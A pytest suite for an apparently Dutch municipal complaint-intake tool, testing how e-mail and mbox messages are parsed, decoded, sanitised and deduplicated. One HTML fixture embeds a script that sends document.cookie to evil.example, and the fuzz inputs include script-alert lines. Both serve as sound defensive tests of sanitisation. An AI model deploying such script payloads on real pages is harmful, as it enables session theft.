"""The e-mail channel: .eml and mbox files, any charset and MIME structure, auto-replies,
attachments by reference, limits, and idempotent ids from the Message-ID."""

from __future__ import annotations

import hashlib
import mailbox
from collections.abc import Iterator
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from feedbackkit.channels.email import EmailChannel, MailSettings, parse_message
from feedbackkit.channels.ids import case_id
from feedbackkit.cli import Context
from feedbackkit.clock import AMSTERDAM, FixedClock
from feedbackkit.commands.interchange import import_command
from feedbackkit.errors import ValidationError
from feedbackkit.models import CaseRecord
from feedbackkit.ports import Rejected, Skipped
from feedbackkit.service import FeedbackKit
from feedbackkit.vocabulary import Channel, Kind, PartyRole

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=AMSTERDAM)
SENT = datetime(2026, 2, 16, 9, 30, tzinfo=AMSTERDAM)
CLOCK = FixedClock(NOW)


@pytest.fixture
def kit() -> Iterator[FeedbackKit]:
    with FeedbackKit.open(":memory:", clock=FixedClock(NOW)) as kit:
        yield kit


def message(
    body: str = "De lantaarnpaal in de Dorpsstraat doet het al twee weken niet.",
    *,
    subject: str = "Kapotte lantaarnpaal",
    sender: str = "Jan de Vries <jan@example.nl>",
    message_id: str = "<lamp-1@example.nl>",
    headers: dict[str, str] | None = None,
) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "klachten@gemeente.example"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(SENT)
    msg["Message-ID"] = message_id
    for name, value in (headers or {}).items():
        msg[name] = value
    msg.set_content(body)
    return msg


def read(raw: bytes, **settings: Any) -> CaseRecord | Rejected | Skipped:
    return parse_message(
        raw, source="test.eml", position=1, settings=MailSettings(**settings), clock=CLOCK
    )


def record(raw: bytes, **settings: Any) -> CaseRecord:
    item = read(raw, **settings)
    assert isinstance(item, CaseRecord), item
    return item


def intake(item: CaseRecord) -> dict[str, Any]:
    """The intake note's details: where the case came from, what was guessed."""
    first = item.events[0]
    assert (first.seq, first.action, first.actor) == (1, "note", "intake:email")
    return dict(first.payload["intake"])


def test_a_plain_message_becomes_a_remark_with_the_sender_as_party(kit: FeedbackKit) -> None:
    item = record(message().as_bytes())
    feedback, (party,) = item.feedback, item.parties
    assert (feedback.kind, feedback.channel, feedback.form.value) == (
        Kind.REMARK,
        Channel.EMAIL,
        "written",
    )
    assert feedback.received_at == SENT
    assert feedback.text == "De lantaarnpaal in de Dorpsstraat doet het al twee weken niet."
    assert feedback.subject == "Kapotte lantaarnpaal"
    assert (party.name, party.email) == ("Jan de Vries", "jan@example.nl")
    assert feedback.parties[0].role is PartyRole.REPORTER
    assert feedback.id == case_id("email", "lamp-1@example.nl")
    assert intake(item) == {"message_id": "lamp-1@example.nl", "attachments": [], "warnings": []}
    kit.prepare(item)


def test_the_kind_is_an_option_and_names_the_role() -> None:
    channel = EmailChannel().configure({"kind": "complaint"})
    (item,) = channel.read_raw(message().as_bytes(), "x.eml", 1)
    assert isinstance(item, CaseRecord)
    assert item.feedback.kind is Kind.COMPLAINT
    assert item.feedback.parties[0].role is PartyRole.COMPLAINANT


@pytest.mark.parametrize(
    ("options", "field"),
    [
        ({"kind": "klacht"}, "option kind"),
        ({"max_message_bytes": "veel"}, "option max_message_bytes"),
        ({"max_attachment_bytes": "0"}, "option max_attachment_bytes"),
        ({"colour": "blue"}, "option colour"),
    ],
)
def test_bad_options_name_the_option(options: dict[str, str], field: str) -> None:
    with pytest.raises(ValidationError) as caught:
        EmailChannel().configure(options)
    assert caught.value.field == field


RFC2047_AND_QP = b"""\
From: =?utf-8?q?Ren=C3=A9e_B=C3=BClow?= <renee@example.nl>
To: klachten@gemeente.example
Subject: =?iso-8859-1?q?Klacht_over_het_caf=E9?= =?utf-8?b?IOKAkyB0ZXJyYXM=?=
Date: Mon, 16 Feb 2026 09:30:00 +0100
Message-ID: <cafe@example.nl>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="inner"

--inner
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Het terras van caf=C3=A9 De Zon staat tot na middernacht vol. Geluidsoverlast!
--inner
Content-Type: text/html; charset=utf-8

<p>HTML version</p>
--inner--
--outer--
"""


def test_encoded_headers_nested_multipart_and_quoted_printable_decode() -> None:
    item = record(RFC2047_AND_QP)
    assert item.feedback.subject == "Klacht over het café – terras"
    assert item.parties[0].name == "Renée Bülow"
    assert item.feedback.text == (
        "Het terras van café De Zon staat tot na middernacht vol. Geluidsoverlast!"
    )
    assert intake(item)["warnings"] == []


def test_base64_body_in_windows_1252() -> None:
    text = "Geachte heer, de stoep is één grote modderpoel."
    msg = message()
    msg.set_content(text.encode("cp1252"), "text", "plain", cte="base64")
    msg.set_param("charset", "windows-1252")
    assert b"base64" in msg.as_bytes()
    assert record(msg.as_bytes()).feedback.text == text


@pytest.mark.parametrize(
    ("declared", "body", "expected", "warning"),
    [
        (None, "Overlast van één café".encode(), "Overlast van één café", "no charset declared"),
        ("utf-8", "Overlast van één café".encode("cp1252"), "Overlast van één café", "not valid"),
        ("x-klingon", b"Overlast van het plein", "Overlast van het plein", "unknown charset"),
    ],
)
def test_wrong_or_missing_charsets_decode_best_effort_with_a_warning(
    declared: str | None, body: bytes, expected: str, warning: str
) -> None:
    content_type = "text/plain" + (f"; charset={declared}" if declared else "")
    raw = (
        b"From: a@example.nl\r\nSubject: x\r\nMessage-ID: <cs@x>\r\n"
        b"Date: Mon, 16 Feb 2026 09:30:00 +0100\r\n"
        b"Content-Type: " + content_type.encode() + b"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    ) + body
    item = record(raw)
    assert item.feedback.text == expected
    assert any(warning in w for w in intake(item)["warnings"])


def test_raw_8bit_headers_are_decoded_not_stored_as_broken_text(kit: FeedbackKit) -> None:
    raw = (
        "From: Jos\u00e9 <jose@example.nl>\r\nSubject: Caf\u00e9 overlast\r\n"
        "Message-ID: <8bit@x>\r\nDate: Mon, 16 Feb 2026 09:30:00 +0100\r\n\r\nTekst"
    ).encode("cp1252")
    item = record(raw)
    assert (item.feedback.subject, item.parties[0].name) == ("Café overlast", "José")
    assert any("8-bit header" in w for w in intake(item)["warnings"])
    kit.ingest([item])
    assert kit.view(item.feedback.id).record == item  # stored and read back unchanged


HTML_ONLY = b"""\
From: b@example.nl
Subject: Afval
Message-ID: <html@x>
Date: Mon, 16 Feb 2026 09:30:00 +0100
Content-Type: text/html; charset=utf-8

<html><head><title>Titel</title><style>p { color: red }</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><p>De container bij <b>nr. 12</b> is niet geleegd.</p>
<ul><li>maandag</li><li>dinsdag</li></ul><img src="https://tracker.example/p.gif">
<script>alert(1)</script><p>Met vriendelijke groet&nbsp;&amp; dank</p></body></html>
"""


def test_html_only_mail_becomes_text_without_scripts_or_styles() -> None:
    item = record(HTML_ONLY)
    assert item.feedback.text == (
        "De container bij nr. 12 is niet geleegd.\n\n- maandag\n- dinsdag\n\n"
        "Met vriendelijke groet & dank"
    )
    for hostile in ("script", "evil", "alert", "color", "Titel", "tracker"):
        assert hostile not in item.feedback.text
    assert "the HTML body was converted to text" in " ".join(intake(item)["warnings"])


def test_quoted_replies_are_cut_from_the_customers_words() -> None:
    body = (
        "Ik heb nog steeds geen antwoord.\n\nJan\n\n"
        "Op 3 februari 2026 om 10:12 schreef Gemeente <info@gemeente.example>:\n"
        "> Wij nemen binnen vijf dagen contact met u op.\n"
    )
    item = record(message(body).as_bytes())
    assert item.feedback.text == "Ik heb nog steeds geen antwoord.\n\nJan"
    assert intake(item)["quoted_text_removed"] is True


def test_english_mail_is_recognised() -> None:
    body = "I would like to complain about the rubbish bin that was not emptied for weeks."
    item = record(message(body).as_bytes())
    assert (item.feedback.language, item.parties[0].language) == ("en", "en")


@pytest.mark.parametrize(
    ("headers", "subject", "sender", "reason"),
    [
        ({"Auto-Submitted": "auto-replied"}, "Re: Klacht", None, "Auto-Submitted"),
        ({"X-Autoreply": "yes"}, "Re: Klacht", None, "X-Autoreply"),
        ({"Precedence": "bulk"}, "Nieuwsbrief", None, "Precedence: bulk"),
        ({"Precedence": "auto_reply"}, "Re: Klacht", None, "auto_reply"),
        ({}, "Afwezigheidsmelding: Re: uw klacht", None, "subject"),
        ({}, "Out of Office: Re: complaint", None, "subject"),
        ({}, "Automatisch antwoord: Klacht", None, "subject"),
        ({}, "Undeliverable: Uw melding", None, "subject"),
        ({}, "Mail delivery failed", "MAILER-DAEMON@mx.example", "MAILER-DAEMON"),
        ({"Return-Path": "<>"}, "Melding", None, "null return path"),
    ],
)
def test_auto_replies_and_bounces_are_skipped(
    headers: dict[str, str], subject: str, sender: str | None, reason: str
) -> None:
    msg = message(subject=subject, headers=headers, sender=sender or "x@example.nl")
    item = read(msg.as_bytes())
    assert isinstance(item, Skipped)
    assert reason in item.reason


def test_auto_submitted_no_is_a_person() -> None:
    assert isinstance(read(message(headers={"Auto-Submitted": "no"}).as_bytes()), CaseRecord)


def test_a_delivery_status_report_is_a_bounce() -> None:
    report = EmailMessage()
    report["From"] = "postmaster@mx.example"
    report["Subject"] = "Returned"
    report.set_content("Your message could not be delivered.")
    status = EmailMessage()
    status.set_content("Reporting-MTA: dns; mx.example\n", subtype="plain")
    report.add_attachment(status)
    report.replace_header(
        "Content-Type", 'multipart/report; report-type=delivery-status; boundary="r"'
    )
    item = read(report.as_bytes())
    assert isinstance(item, Skipped)
    assert "bounce" in item.reason


def test_attachments_are_kept_by_reference(tmp_path: Path, kit: FeedbackKit) -> None:
    msg = message()
    letter, photo = b"%PDF-1.4 brief" * 10, b"\x89PNG" + bytes(range(256)) * 8
    msg.add_attachment(letter, maintype="application", subtype="pdf", filename="brief.pdf")
    msg.add_attachment(photo, maintype="image", subtype="png", filename="stoep.png")
    store = tmp_path / "bijlagen"
    item = record(msg.as_bytes(), attachments=store, max_attachment_bytes=1000)
    pdf, png = intake(item)["attachments"]
    digest = hashlib.sha256(letter).hexdigest()
    assert pdf == {
        "filename": "brief.pdf",
        "content_type": "application/pdf",
        "size": len(letter),
        "sha256": digest,
        "location": (store / digest[:2] / digest).as_uri(),
        "not_kept": None,
    }
    assert (store / digest[:2] / digest).read_bytes() == letter
    assert (png["size"], png["location"]) == (len(photo), None)
    assert png["not_kept"] == "larger than the limit of 1000 bytes"
    assert png["sha256"] == hashlib.sha256(photo).hexdigest()
    kit.prepare(item)


def test_without_a_store_attachments_are_recorded_not_kept() -> None:
    msg = message()
    msg.add_attachment(b"data", maintype="application", subtype="octet-stream", filename="a.bin")
    (ref,) = intake(record(msg.as_bytes()))["attachments"]
    assert (ref["location"], ref["not_kept"]) == (None, "no attachment store configured")


def test_a_mail_with_only_a_subject_uses_it_and_says_so() -> None:
    item = record(message(body="\n").as_bytes())
    assert item.feedback.text == "Kapotte lantaarnpaal"
    assert "the subject is used as the text" in " ".join(intake(item)["warnings"])


@pytest.mark.parametrize(
    ("raw", "settings", "field", "reason"),
    [
        (message().as_bytes(), {"max_message_bytes": 100}, "message", "exceeds the limit"),
        (
            b"X-Long: " + b"a" * 5000 + b"\r\nFrom: a@b.nl\r\n\r\nhoi",
            {"max_header_bytes": 4096},
            "headers",
            "header section exceeds",
        ),
        (
            b"From: a@b.nl\r\nSubject: \r\nMessage-ID: <e@x>\r\n\r\n \r\n",
            {},
            "body",
            "no text in the body or the subject",
        ),
        (b"\x00\xff\xfe binary garbage", {}, "headers", "not an e-mail message"),
    ],
)
def test_oversized_or_empty_mail_is_rejected_with_the_reason(
    raw: bytes, settings: dict[str, Any], field: str, reason: str
) -> None:
    item = read(raw, **settings)
    assert isinstance(item, Rejected)
    assert (item.source, item.position, item.field) == ("test.eml", 1, field)
    assert reason in item.reason


def test_hostile_nesting_is_rejected_not_a_crash() -> None:
    depth = 60
    head = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(depth)
    )
    raw = (
        "From: a@b.nl\r\nMessage-ID: <deep@x>\r\nMIME-Version: 1.0\r\n" + head + "\r\nhi\r\n"
    ).encode()
    item = read(raw)
    assert isinstance(item, Rejected)
    assert item.field in ("mime", "message")


def test_missing_or_bad_dates_fall_back_and_say_so() -> None:
    received = "from mx.example by mail.gemeente.example; Tue, 17 Feb 2026 08:00:00 +0100"
    msg = message(headers={"Received": received})
    del msg["Date"]
    item = record(msg.as_bytes())
    assert item.feedback.received_at == datetime(2026, 2, 17, 8, 0, tzinfo=AMSTERDAM)
    assert "receipt taken from the newest Received header" in intake(item)["warnings"]
    future = message()
    future.replace_header("Date", format_datetime(NOW + timedelta(days=400)))
    item = record(future.as_bytes())
    assert item.feedback.received_at == NOW
    assert any("lies in the future" in w for w in intake(item)["warnings"])


def test_the_same_mail_imported_twice_is_stored_once(kit: FeedbackKit) -> None:
    raw = message().as_bytes()
    first, again = record(raw), record(raw)
    assert first == again  # every id is derived, so the records are equal
    assert kit.ingest([first]).inserted == 1
    report = kit.ingest([again])
    assert (report.inserted, report.skipped) == (0, 1)


def write_mbox(path: Path, *messages: EmailMessage | bytes) -> None:
    box = mailbox.mbox(path)
    for msg in messages:
        box.add(msg)
    box.close()


def test_an_mbox_yields_every_message_in_order(tmp_path: Path) -> None:
    path = tmp_path / "klachten.mbox"
    write_mbox(
        path,
        message(message_id="<a@x>"),
        message(subject="Afwezigheidsmelding", message_id="<b@x>"),
        message(body=" ", subject=" ", message_id="<c@x>"),
        message(body="Nog een melding", message_id="<d@x>"),
    )
    skipped: list[Skipped] = []
    items = list(EmailChannel(clock=CLOCK).configure({}, on_skip=skipped.append).read(path))
    assert [type(i).__name__ for i in items] == ["CaseRecord", "Rejected", "CaseRecord"]
    assert [s.position for s in skipped] == [2]
    assert isinstance(items[1], Rejected)
    assert items[1].position == 3


def test_feedbackkit_import_reads_mail_files(tmp_path: Path) -> None:
    path = tmp_path / "postvak.mbox"
    write_mbox(
        path,
        message(message_id="<a@x>"),
        message(subject="Afwezigheidsmelding", message_id="<b@x>"),
        message(body=" ", subject=" ", message_id="<c@x>"),
    )
    db = str(tmp_path / "cases.sqlite")
    context = Context(db, FeedbackKit.open(":memory:").plugins)
    options = ["--option", "kind=complaint", "--quarantine", str(tmp_path / "q")]
    result = CliRunner().invoke(import_command, [str(path), *options], obj=context)
    assert result.exit_code == 3, result.output
    assert f"{path}:3: body: no text in the body or the subject" in result.stderr
    assert "2 read = 1 imported + 0 already present + 1 rejected" in result.stderr
    assert "1 skipped as not feedback, e.g. auto-reply or bounce" in result.stderr
    assert len(list((tmp_path / "q").glob("*/raw.eml"))) == 1
    single = tmp_path / "one.eml"
    single.write_bytes(message(message_id="<e@x>").as_bytes())
    assert CliRunner().invoke(import_command, [str(single)], obj=context).exit_code == 0
    bad = CliRunner().invoke(import_command, [str(single), "--option", "kind"], obj=context)
    assert (bad.exit_code, "is not NAME=VALUE" in bad.output) == (2, True)
    with FeedbackKit.open(db) as kit:
        assert sorted(s.procedure for s in kit.cases()) == ["awb_complaint", "generic"]


# -- fuzzing: nothing but a typed result, whatever the bytes ---------------------------

_fuzz = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@_fuzz
@given(st.binary(max_size=2000))
def test_any_bytes_give_a_typed_result(raw: bytes) -> None:
    assert isinstance(read(raw), CaseRecord | Rejected | Skipped)


HEADER_LINES = st.sampled_from(
    [
        b"From: =?utf-8?q?=C3=A9?= <a@b.nl>",
        b"From: <>",
        b"From: undisclosed-recipients:;",
        b"Subject: =?x-unknown?b?////?=",
        b"Subject: \xff\xfe\x80",
        b"Date: 31 Feb 2026 25:61:00 +9999",
        b"Date: Mon, 16 Feb 2026 09:30:00 -0000",
        b"Message-ID: <\xe9@x>",
        b"Content-Type: multipart/alternative; boundary=",
        b'Content-Type: multipart/mixed; boundary="b"',
        b"Content-Type: text/html; charset=utf-7",
        b"Content-Transfer-Encoding: base64",
        b"Content-Transfer-Encoding: quoted-printable",
        b"Content-Language: EN-gb",
        b"Auto-Submitted: no",
        b"--b",
        b"--b--",
        b"<script>alert(1)</script><p>hoi",
        b"=C3=A9=\r",
    ]
)


@_fuzz
@given(st.lists(HEADER_LINES | st.binary(max_size=40), max_size=20))
def test_mail_shaped_garbage_gives_a_typed_result(lines: list[bytes]) -> None:
    item = read(b"\r\n".join(lines))
    assert isinstance(item, CaseRecord | Rejected | Skipped)
    if isinstance(item, CaseRecord):
        item.feedback.text.encode("utf-8")  # storable: no lone surrogates


@_fuzz
@given(
    body=st.text(min_size=1, max_size=300).filter(lambda t: any(c.isalnum() for c in t)),
    subject=st.text(max_size=60),
    name=st.text(max_size=30),
)
def test_well_formed_mail_from_people_always_becomes_a_valid_case(
    body: str, subject: str, name: str
) -> None:
    msg = EmailMessage()
    msg["From"] = (
        f'"{name.replace(chr(34), "")}" <p@example.nl>' if name.isprintable() else "p@example.nl"
    )
    msg["Subject"] = " ".join(subject.split()) or "Melding"
    msg["Date"] = format_datetime(SENT)
    msg["Message-ID"] = "<fuzz@example.nl>"
    msg.set_content(body)
    item = read(msg.as_bytes())
    if isinstance(item, Skipped):  # an out-of-office subject, generated by chance
        return
    assert isinstance(item, CaseRecord), item
    assert item.feedback.received_at == SENT
    with FeedbackKit.open(":memory:") as kit:
        kit.prepare(item)
